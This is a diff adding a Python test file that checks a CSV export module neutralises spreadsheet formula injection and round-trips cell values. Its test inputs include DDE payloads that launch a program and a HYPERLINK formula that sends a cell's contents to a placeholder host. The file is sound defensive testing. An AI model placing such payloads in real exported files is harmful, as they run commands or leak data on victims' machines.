@@ -1,0 +1,47 @@
+"""Cells of tables that leave: never a formula, and every value comes back as it was."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sbcard_core.files import read_cell, write_cell, write_rows
+
+RUNS = ["=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1"]
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+
+
+@pytest.mark.parametrize("text", [*RUNS, *(f" {text}" for text in RUNS), '=HYPERLINK("http://a.example?"&C2,"x")'])
+def test_what_a_program_runs_becomes_text(text: str) -> None:
+    assert write_cell(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "value", [-1200, "+5", "-0.50", "-", "", "张三", "2014-07-01", "'tis", 0, "a=b", "13800138000"]
+)
+def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
+    assert write_cell(value) == str(value)
+
+
+@given(st.text() | st.from_regex(r"\A'*[=+\-@\t ]*.*", fullmatch=False))
+def test_every_value_comes_back(text: str) -> None:
+    assert read_cell(write_cell(text)) == text
+
+
+@given(st.text(st.sampled_from("=+-@\t\r\n '　1a＝"), max_size=6))
+def test_no_written_cell_begins_as_a_formula_does(text: str) -> None:
+    written = write_cell(text).lstrip(" 　")
+    begins = written.startswith(STARTS)
+    number = written.replace(".", "", 1).lstrip("+-").isdigit()
+    assert not begins or number or written in ("+", "-")
+
+
+@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\0", codec="utf-8"))), max_size=5))
+def test_tables_come_back(rows: list[list[str]]) -> None:
+    rows = [["", *row] for row in rows]
+    out = io.StringIO(newline="")
+    assert write_rows(out, rows) == len(rows)
+    read = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    assert [[read_cell(cell) for cell in row] for row in read] == rows
